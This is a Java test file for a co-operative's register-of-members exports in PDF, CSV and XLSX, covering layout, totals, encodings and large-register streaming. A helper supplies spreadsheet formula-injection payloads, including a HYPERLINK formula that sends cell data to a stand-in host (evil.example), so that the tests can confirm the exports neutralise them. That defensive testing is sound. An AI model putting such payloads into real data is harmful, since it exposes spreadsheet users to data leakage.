package coop.cooperage.members.control;

import static org.assertj.core.api.Assertions.assertThat;

import coop.cooperage.members.entity.RegisterEntry;
import coop.cooperage.reporting.control.ReportRenderer;
import java.awt.geom.Rectangle2D;
import java.io.ByteArrayInputStream;
import java.io.ByteArrayOutputStream;
import java.io.FilterOutputStream;
import java.io.IOException;
import java.io.StringReader;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Instant;
import java.time.LocalDate;
import java.util.Iterator;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.stream.IntStream;
import java.util.stream.Stream;
import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.apache.pdfbox.Loader;
import org.apache.pdfbox.cos.COSName;
import org.apache.pdfbox.pdmodel.PDDocument;
import org.apache.pdfbox.pdmodel.PDPage;
import org.apache.pdfbox.pdmodel.PDResources;
import org.apache.pdfbox.text.PDFTextStripper;
import org.apache.pdfbox.text.PDFTextStripperByArea;
import org.apache.poi.ss.usermodel.Cell;
import org.apache.poi.ss.usermodel.CellType;
import org.apache.poi.ss.usermodel.DateUtil;
import org.apache.poi.ss.usermodel.Row;
import org.apache.poi.util.DefaultTempFileCreationStrategy;
import org.apache.poi.util.TempFile;
import org.apache.poi.xssf.usermodel.XSSFSheet;
import org.apache.poi.xssf.usermodel.XSSFWorkbook;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class RegisterDocumentsTest {

    private static final String SOCIETY = "Afon Teifi Community Energy Ltd";
    private static final RegisterHeader HEADER = new RegisterHeader(SOCIETY, "31452R",
            "Yr Hen Ysgol, Heol y Bont, Llandysul SA44 4AB", "#00703c", LocalDate.of(2026, 3, 31),
            Instant.parse("2026-04-02T13:05:00Z"));

    /**
     * The design's columns (x from the left margin, width), for reading the PDF back one column at a time: a wrapped
     * value then reads as one string, whatever else is on its lines.
     */
    private static final Map<String, int[]> COLUMNS = columns();
    private static final float LEFT_MARGIN = 36;
    /** Below the first page's title block, above every page's footer. */
    private static final float TABLE_TOP = 30 + 118;
    private static final float TABLE_BOTTOM = 595 - 26 - 24;

    private final RegisterDocuments documents = new RegisterDocuments(new ReportRenderer());

    // ---- PDF

    @Test
    void pdfShowsEveryStatutoryFieldOfEveryMemberInItsColumn() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(pdf(members()))) {
            assertThat(pdf.getNumberOfPages()).isEqualTo(1);
            Map<String, String> columns = columnText(pdf, 1, TABLE_TOP);

            // Each column reads top to bottom: its heading, then the members in the order given.
            assertThat(columns.get("number")).isEqualTo("No. 1001 1002 1003 1004 1005");
            assertThat(columns.get("name")).isEqualTo("Name Siân Llewellyn"
                    + " Teifi Valley Community Trust Represented by Gareth Evans"
                    + " Zoë O'Brien-Müller Dafydd ap Gruffudd Günther Müller");
            assertThat(columns.get("address")).isEqualTo("Postal address"
                    + " Tŷ Coch, 3 Heol y Bont, Llandysul, SA44 4AB"
                    + " The Old Chapel, Station Road, Newcastle Emlyn, SA38 9BX"
                    + " Flat 2, 14 Rhodfa'r Môr, Aberystwyth, SY23 2AZ"
                    + " Flat 12, Ystafelloedd y Felin Wlân Uchaf, Ffordd yr Hen Orsaf Reilffordd Hanesyddol,"
                    + " Llanfairpwllgwyngyll, Ynys Môn, LL61 5UJ"
                    + " Wohnung 4, 27 Heol y Frenhines, Caerdydd, CF10 2BU");
            assertThat(columns.get("email")).isEqualTo("Email address and what it may be used for"
                    + " sian@example.cymru For: Notices of meetings and votes; Statements and share certificates"
                    + " office@teifivalley.example For: Notices of meetings and votes; Statements and share"
                    + " certificates; News about the society"
                    + " zoe@example.org For: News about the society"
                    + " No email address"
                    + " guenther@example.de Agreed to no use of email");
            assertThat(columns.get("shares")).isEqualTo("Shares held 250 10,000 0 1,250 500");
            assertThat(columns.get("paid")).isEqualTo("Amount paid £250.00 £10,000.00 £0.00 £1,250.00 £500.00");
            assertThat(columns.get("other")).isEqualTo("Other property None"
                    + " Loan stock £5,000.00 (4%, repayable 2031) None None Deposit £1,200.50");
            assertThat(columns.get("entered")).isEqualTo("Entered"
                    + " 14 March 2021 1 May 2021 2 June 2022 31 March 2024 30 September 2023");
            assertThat(columns.get("ceased")).isEqualTo("Ceased — — 30 September 2024 — —");
        }
    }

    @Test
    void pdfSaysWhoseRegisterItIsAsAtWhenAndItsTotals() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(pdf(members()))) {
            String text = text(pdf, 1, 1);
            assertThat(text).contains(SOCIETY, "Register of members", "FCA registration number 31452R",
                    "Registered office Yr Hen Ysgol, Heol y Bont, Llandysul SA44 4AB", "As at 31 March 2026");
            // Totals of every entry in the register, ceased members included in the sums.
            assertThat(text).contains("Members 4 current, 1 ceased", "Shares held 12,000", "Amount paid £12,000.00");
            // 13:05 UTC on 2 April is 14:05 in London (BST).
            assertThat(text).contains(SOCIETY + " – Register of members as at 31 March 2026."
                    + " Generated 2 April 2026 at 14:05", "Page 1 of 1");
            assertThat(pdf.getDocumentInformation().getTitle()).isEqualTo("Register of members – " + SOCIETY);
        }
    }

    @Test
    void pdfEmbedsItsFontsSoWelshAndGermanNamesPrintTheSameEverywhere() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(pdf(members()))) {
            for (PDPage page : pdf.getPages()) {
                PDResources resources = page.getResources();
                for (COSName name : resources.getFontNames()) {
                    assertThat(resources.getFont(name).isEmbedded()).as(name.getName()).isTrue();
                    assertThat(resources.getFont(name).getName()).contains("DejaVuSans");
                }
            }
        }
    }

    @Test
    void anEmptyRegisterIsStillAClearDocument() throws IOException {
        try (PDDocument pdf = Loader.loadPDF(pdf(List.of()))) {
            assertThat(pdf.getNumberOfPages()).isEqualTo(1);
            assertThat(text(pdf, 1, 1)).contains(SOCIETY, "Members None", "Shares held 0", "Amount paid £0.00",
                    "No one is on the register of members.");
        }
    }

    /**
     * 5,000 members pulled from an iterator (never a list) with pages swapped to disk. The 50,000-member case, and
     * the memory it takes, is {@link RegisterPdfBenchmark}'s.
     */
    @Test
    void aLargeRegisterStreamsFromAnIteratorAndRepeatsItsHeadingsOnEveryPage() throws IOException {
        int members = 5_000;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ClosingWatcher watched = new ClosingWatcher(out);
        documents.pdf(HEADER, generated(members), watched);

        assertThat(watched.closed).as("the caller's stream is left open").isFalse();
        try (PDDocument pdf = Loader.loadPDF(out.toByteArray())) {
            int pages = pdf.getNumberOfPages();
            assertThat(pages).isGreaterThan(100);
            assertThat(text(pdf, 1, 1)).contains("Members 4,500 current, 500 ceased", "Page 1 of " + pages);
            Map<String, String> second = columnText(pdf, 2, 0);
            assertThat(second.get("number")).startsWith("No. ");
            assertThat(second.get("name")).startsWith("Name ");
            assertThat(second.get("address")).startsWith("Postal address ");
            assertThat(text(pdf, 2, 2)).contains("Page 2 of " + pages);
            Map<String, String> last = columnText(pdf, pages, 0);
            assertThat(last.get("number")).endsWith(" 5000");
            assertThat(last.get("name")).endsWith(" Member 5000 Represented by Representative 5000");
            assertThat(text(pdf, pages, pages)).contains("Page " + pages + " of " + pages);
        }
    }

    // ---- CSV

    @Test
    void csvIsUtf8WithAByteOrderMarkAndCrlfLineEnds() {
        byte[] csv = csv(members());

        assertThat(csv).startsWith(0xEF, 0xBB, 0xBF);
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFFMember number,Name,Representative,Address,Postcode,Email,"
                + "Email may be used for,Shares held,Amount paid (£),Other property held in the society,"
                + "Date entered,Date ceased\r\n");
        assertThat(text).contains("\r\n1002,Teifi Valley Community Trust,Gareth Evans,").endsWith("\r\n");
    }

    @Test
    void csvParsesBackToEveryStatutoryFieldWithPlainNumbersAndIsoDates() throws IOException {
        List<List<String>> records = parse(csv(members()));

        assertThat(records.get(0)).isEqualTo(RegisterDocuments.HEADINGS);
        assertThat(records.subList(1, records.size())).containsExactly(
                List.of("1001", "Siân Llewellyn", "", "Tŷ Coch\n3 Heol y Bont\nLlandysul", "SA44 4AB",
                        "sian@example.cymru", "Notices of meetings and votes; Statements and share certificates",
                        "250", "250.00", "None", "2021-03-14", ""),
                List.of("1002", "Teifi Valley Community Trust", "Gareth Evans",
                        "The Old Chapel\nStation Road\nNewcastle Emlyn", "SA38 9BX", "office@teifivalley.example",
                        "Notices of meetings and votes; Statements and share certificates; News about the society",
                        "10000", "10000.00", "Loan stock £5,000.00 (4%, repayable 2031)", "2021-05-01", ""),
                List.of("1003", "Zoë O'Brien-Müller", "", "Flat 2\n14 Rhodfa'r Môr\nAberystwyth", "SY23 2AZ",
                        "zoe@example.org", "News about the society", "0", "0.00", "None", "2022-06-02",
                        "2024-09-30"),
                List.of("1004", "Dafydd ap Gruffudd", "", "Flat 12, Ystafelloedd y Felin Wlân Uchaf\n"
                        + "Ffordd yr Hen Orsaf Reilffordd Hanesyddol\nLlanfairpwllgwyngyll\nYnys Môn", "LL61 5UJ",
                        "", "", "1250", "1250.00", "None", "2024-03-31", ""),
                List.of("1005", "Günther Müller", "", "Wohnung 4\n27 Heol y Frenhines\nCaerdydd", "CF10 2BU",
                        "guenther@example.de", "", "500", "500.00", "Deposit £1,200.50", "2023-09-30", ""));
    }

    @Test
    void csvNeutralisesCellsASpreadsheetWouldRunAsFormulas() throws IOException {
        Map<String, String> row = byHeading(csv(List.of(hostile()))).get(0);

        assertThat(row.get("Name")).isEqualTo("'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        assertThat(row.get("Representative")).isEqualTo("'+44 20 7946 0000");
        assertThat(row.get("Address")).isEqualTo("'-2+3\n@SUM(1+1)");
        assertThat(row.get("Email")).isEqualTo("'@example.org");
        assertThat(row.get("Email may be used for")).isEqualTo("'\tNews about the society");
        assertThat(row.get("Other property held in the society")).isEqualTo("'\r=1+1");
        // Text that only contains such characters later, and every number and date, is untouched.
        assertThat(row.get("Postcode")).isEqualTo("SW1A 1AA");
        assertThat(row.get("Member number")).isEqualTo("1006");
        assertThat(row.get("Amount paid (£)")).isEqualTo("1.50");
        assertThat(row.get("Date entered")).isEqualTo("2025-01-02");
    }

    @Test
    void csvQuotesCommasQuotesAndLineBreaksAsRfc4180Says() throws IOException {
        RegisterEntry awkward = new RegisterEntry(7, "Hughes, Margaret \"Maggie\"", null, "1 Stryd y Bont\r\nBala",
                "LL23 7AA", null, "", 1, 100, "None", LocalDate.of(2020, 1, 1), null, true);
        byte[] csv = csv(List.of(awkward));

        assertThat(new String(csv, StandardCharsets.UTF_8))
                .contains("\r\n7,\"Hughes, Margaret \"\"Maggie\"\"\",,\"1 Stryd y Bont\nBala\",LL23 7AA,,,1,1.00,");
        assertThat(byHeading(csv).get(0).get("Name")).isEqualTo("Hughes, Margaret \"Maggie\"");
    }

    // ---- XLSX

    @Test
    void xlsxHasABoldFrozenFilteredHeaderAndTypedCells() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx(members())))) {
            XSSFSheet sheet = workbook.getSheet("Register of members");
            assertThat(sheet).isNotNull();

            Row heading = sheet.getRow(0);
            assertThat(heading).extracting(Cell::getStringCellValue).containsExactlyElementsOf(RegisterDocuments.HEADINGS);
            assertThat(heading).allSatisfy(cell -> assertThat(workbook.getFontAt(cell.getCellStyle().getFontIndex())
                    .getBold()).isTrue());
            assertThat(sheet.getPaneInformation().isFreezePane()).isTrue();
            assertThat(sheet.getPaneInformation().getHorizontalSplitPosition()).isEqualTo((short) 1);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:L6");
            assertThat(sheet.getLastRowNum()).isEqualTo(5);

            Row trust = sheet.getRow(2);
            assertNumber(trust.getCell(0), 1002, "0");
            assertThat(trust.getCell(1).getStringCellValue()).isEqualTo("Teifi Valley Community Trust");
            assertThat(trust.getCell(2).getStringCellValue()).isEqualTo("Gareth Evans");
            assertThat(trust.getCell(3).getStringCellValue()).isEqualTo("The Old Chapel\nStation Road\nNewcastle Emlyn");
            assertThat(trust.getCell(4).getStringCellValue()).isEqualTo("SA38 9BX");
            assertThat(trust.getCell(5).getStringCellValue()).isEqualTo("office@teifivalley.example");
            assertThat(trust.getCell(6).getStringCellValue()).startsWith("Notices of meetings and votes;");
            assertNumber(trust.getCell(7), 10_000, "#,##0");
            assertNumber(trust.getCell(8), 10_000.00, "\"£\"#,##0.00");
            assertThat(trust.getCell(9).getStringCellValue()).isEqualTo("Loan stock £5,000.00 (4%, repayable 2031)");
            assertDate(trust.getCell(10), LocalDate.of(2021, 5, 1));
            assertThat(trust.getCell(11)).as("not ceased").isNull();

            Row zoe = sheet.getRow(3);
            assertThat(zoe.getCell(1).getStringCellValue()).isEqualTo("Zoë O'Brien-Müller");
            assertNumber(zoe.getCell(8), 0, "\"£\"#,##0.00");
            assertDate(zoe.getCell(11), LocalDate.of(2024, 9, 30));

            Row dafydd = sheet.getRow(4);
            assertThat(dafydd.getCell(5)).as("no email").isNull();
            assertNumber(dafydd.getCell(8), 1_250.00, "\"£\"#,##0.00");
            assertThat(dafydd.getCell(3).getCellStyle().getWrapText()).as("address wraps").isTrue();
        }
    }

    @Test
    void xlsxStoresFormulaLikeTextAsTextExactlyAsEntered() throws IOException {
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx(List.of(hostile()))))) {
            Cell name = workbook.getSheetAt(0).getRow(1).getCell(1);
            assertThat(name.getCellType()).isEqualTo(CellType.STRING);
            assertThat(name.getStringCellValue()).isEqualTo("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")");
        }
    }

    @Test
    void aLargeXlsxStreamsInBoundedMemoryAndDeletesItsTemporaryFiles(@TempDir Path temp) throws IOException {
        int members = 5_000;
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        ClosingWatcher watched = new ClosingWatcher(out);
        Path poiTemp = temp.resolve("poi");
        TempFile.setTempFileCreationStrategy(new DefaultTempFileCreationStrategy(poiTemp.toFile()));
        try {
            documents.xlsx(generated(members), watched);
        } finally {
            TempFile.setTempFileCreationStrategy(new DefaultTempFileCreationStrategy());
        }

        assertThat(watched.closed).as("the caller's stream is left open").isFalse();
        try (Stream<Path> left = Files.walk(poiTemp)) {
            assertThat(left.filter(Files::isRegularFile)).as("SXSSF's temporary files are deleted").isEmpty();
        }
        try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(out.toByteArray()))) {
            XSSFSheet sheet = workbook.getSheetAt(0);
            assertThat(sheet.getLastRowNum()).isEqualTo(members);
            assertThat(sheet.getCTWorksheet().getAutoFilter().getRef()).isEqualTo("A1:L" + (members + 1));
            Row last = sheet.getRow(members);
            assertNumber(last.getCell(0), members, "0");
            assertThat(last.getCell(1).getStringCellValue()).isEqualTo("Member " + members);
        }
    }

    // ---- helpers

    private byte[] pdf(List<RegisterEntry> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        documents.pdf(HEADER, entries.iterator(), out);
        return out.toByteArray();
    }

    private byte[] csv(List<RegisterEntry> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        documents.csv(entries.iterator(), out);
        return out.toByteArray();
    }

    private byte[] xlsx(List<RegisterEntry> entries) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        documents.xlsx(entries.iterator(), out);
        return out.toByteArray();
    }

    /** Parsed with Commons CSV's RFC 4180 format, the byte order mark first removed as a spreadsheet would. */
    private static List<List<String>> parse(byte[] csv) throws IOException {
        String text = new String(csv, StandardCharsets.UTF_8);
        assertThat(text).startsWith("\uFEFF");
        try (CSVParser parser = CSVParser.parse(new StringReader(text.substring(1)), CSVFormat.RFC4180)) {
            return parser.getRecords().stream().map(CSVRecord::toList).toList();
        }
    }

    /** The records after the first, each keyed by the first record's headings. */
    private static List<Map<String, String>> byHeading(byte[] csv) throws IOException {
        List<List<String>> records = parse(csv);
        List<String> headings = records.get(0);
        return records.stream().skip(1).map(record -> {
            assertThat(record).hasSameSizeAs(headings);
            Map<String, String> row = new LinkedHashMap<>();
            for (int i = 0; i < headings.size(); i++) {
                row.put(headings.get(i), record.get(i));
            }
            return row;
        }).toList();
    }

    private static void assertNumber(Cell cell, double value, String format) {
        assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
        assertThat(cell.getNumericCellValue()).isEqualTo(value);
        assertThat(cell.getCellStyle().getDataFormatString()).isEqualTo(format);
    }

    private static void assertDate(Cell cell, LocalDate date) {
        assertThat(cell.getCellType()).isEqualTo(CellType.NUMERIC);
        assertThat(DateUtil.isCellDateFormatted(cell)).isTrue();
        assertThat(cell.getLocalDateTimeCellValue().toLocalDate()).isEqualTo(date);
    }

    private static String text(PDDocument pdf, int firstPage, int lastPage) throws IOException {
        PDFTextStripper stripper = new PDFTextStripper();
        stripper.setSortByPosition(true);
        stripper.setStartPage(firstPage);
        stripper.setEndPage(lastPage);
        return stripper.getText(pdf).replace('\u00a0', ' ');
    }

    /** The text of each column of one page, from {@code top} down to the footer, whitespace runs made one space. */
    private static Map<String, String> columnText(PDDocument pdf, int page, float top) throws IOException {
        PDFTextStripperByArea stripper = new PDFTextStripperByArea();
        stripper.setSortByPosition(true);
        for (Map.Entry<String, int[]> column : COLUMNS.entrySet()) {
            int[] xw = column.getValue();
            stripper.addRegion(column.getKey(),
                    new Rectangle2D.Float(LEFT_MARGIN + xw[0], top, xw[1], TABLE_BOTTOM - top));
        }
        stripper.extractRegions(pdf.getPage(page - 1));
        Map<String, String> text = new LinkedHashMap<>();
        for (String column : COLUMNS.keySet()) {
            text.put(column, stripper.getTextForRegion(column).replace('\u00a0', ' ').strip().replaceAll("\\s+", " "));
        }
        return text;
    }

    private static Map<String, int[]> columns() {
        Map<String, int[]> columns = new LinkedHashMap<>();
        columns.put("number", new int[] {0, 34});
        columns.put("name", new int[] {34, 112});
        columns.put("address", new int[] {146, 140});
        columns.put("email", new int[] {286, 160});
        columns.put("shares", new int[] {446, 46});
        columns.put("paid", new int[] {492, 62});
        columns.put("other", new int[] {554, 88});
        columns.put("entered", new int[] {642, 64});
        columns.put("ceased", new int[] {706, 64});
        return columns;
    }

    /** A person, an organisation with its representative, a ceased member, one with no email, one with no uses. */
    static List<RegisterEntry> members() {
        return List.of(
                new RegisterEntry(1001, "Siân Llewellyn", null, "Tŷ Coch\n3 Heol y Bont\nLlandysul", "SA44 4AB",
                        "sian@example.cymru", "Notices of meetings and votes; Statements and share certificates",
                        250, 25_000, "None", LocalDate.of(2021, 3, 14), null, true),
                new RegisterEntry(1002, "Teifi Valley Community Trust", "Gareth Evans",
                        "The Old Chapel\nStation Road\nNewcastle Emlyn", "SA38 9BX", "office@teifivalley.example",
                        "Notices of meetings and votes; Statements and share certificates; News about the society",
                        10_000, 1_000_000, "Loan stock £5,000.00 (4%, repayable 2031)", LocalDate.of(2021, 5, 1),
                        null, true),
                new RegisterEntry(1003, "Zoë O'Brien-Müller", null, "Flat 2\n14 Rhodfa'r Môr\nAberystwyth",
                        "SY23 2AZ", "zoe@example.org", "News about the society", 0, 0, "None",
                        LocalDate.of(2022, 6, 2), LocalDate.of(2024, 9, 30), false),
                new RegisterEntry(1004, "Dafydd ap Gruffudd", null, "Flat 12, Ystafelloedd y Felin Wlân Uchaf\n"
                        + "Ffordd yr Hen Orsaf Reilffordd Hanesyddol\nLlanfairpwllgwyngyll\nYnys Môn", "LL61 5UJ",
                        null, "", 1_250, 125_000, "None", LocalDate.of(2024, 3, 31), null, false),
                new RegisterEntry(1005, "Günther Müller", null, "Wohnung 4\n27 Heol y Frenhines\nCaerdydd",
                        "CF10 2BU", "guenther@example.de", "", 500, 50_000, "Deposit £1,200.50",
                        LocalDate.of(2023, 9, 30), null, false));
    }

    /** Every text field starts with something a spreadsheet would run. */
    private static RegisterEntry hostile() {
        return new RegisterEntry(1006, "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+44 20 7946 0000",
                "-2+3\n@SUM(1+1)", "SW1A 1AA", "@example.org", "\tNews about the society", 1, 150, "\r=1+1",
                LocalDate.of(2025, 1, 2), null, false);
    }

    /** {@code count} members made as they are asked for; every tenth has ceased. */
    static Iterator<RegisterEntry> generated(int count) {
        return IntStream.rangeClosed(1, count).mapToObj(RegisterDocumentsTest::generatedMember).iterator();
    }

    static RegisterEntry generatedMember(int i) {
        boolean ceased = i % 10 == 0;
        return new RegisterEntry(i, "Member " + i, i % 50 == 0 ? "Representative " + i : null,
                i + " Heol y Bont\nLlandysul\nCeredigion", "SA44 4AB", ceased ? null : "member" + i + "@example.org",
                "Notices of meetings and votes; Statements and share certificates", ceased ? 0 : 100 + i % 900,
                ceased ? 0 : (100L + i % 900) * 100, i % 7 == 0 ? "Loan £" + (i % 5 + 1) + ",000.00" : "None",
                LocalDate.of(2020, 1, 1).plusDays(i % 2000), ceased ? LocalDate.of(2025, 6, 30) : null, i % 3 == 0);
    }

    private static final class ClosingWatcher extends FilterOutputStream {
        private boolean closed;

        ClosingWatcher(ByteArrayOutputStream out) {
            super(out);
        }

        @Override
        public void write(byte[] bytes, int offset, int length) throws IOException {
            out.write(bytes, offset, length);
        }

        @Override
        public void close() throws IOException {
            closed = true;
            super.close();
        }
    }
}
